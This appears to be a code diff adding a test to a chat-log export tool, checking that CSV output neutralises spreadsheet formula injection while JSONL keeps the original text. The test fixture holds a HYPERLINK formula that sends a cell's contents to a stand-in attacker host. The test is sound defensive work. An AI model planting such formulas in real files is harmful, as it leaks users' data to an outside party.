@@ -389,3 +389,18 @@ def test_command_help_explains_the_filters(runner: CliRunner) -> None:
     options = ("--format", "--since", "--until", "--intent", "--handoff", "--no-handoff", "--abstained", "--feedback", "--search")
     for option in (*options, "--model"):
         assert option in text
+
+
+def test_csv_keeps_a_formula_the_customer_typed_as_text(store: SqlStore, tmp_path: Path) -> None:
+    session_id = store.create_session()
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    add(store, record(session_id, 1, formula, answer="-1 is not an answer", reason="@kb"), minutes=0)
+
+    export_turns(store.engine, LogFilter(), tmp_path / "out.csv")
+    export_turns(store.engine, LogFilter(), tmp_path / "out.jsonl")
+
+    [row] = read_back(tmp_path / "out.csv", "csv")
+    assert (row["user_text"], row["answer"], row["reason"]) == ("'" + formula, "'-1 is not an answer", "'@kb")
+    assert row["intent"] == "question" and row["turn_no"] == 1
+    [as_stored] = read_back(tmp_path / "out.jsonl", "jsonl")
+    assert as_stored["user_text"] == formula
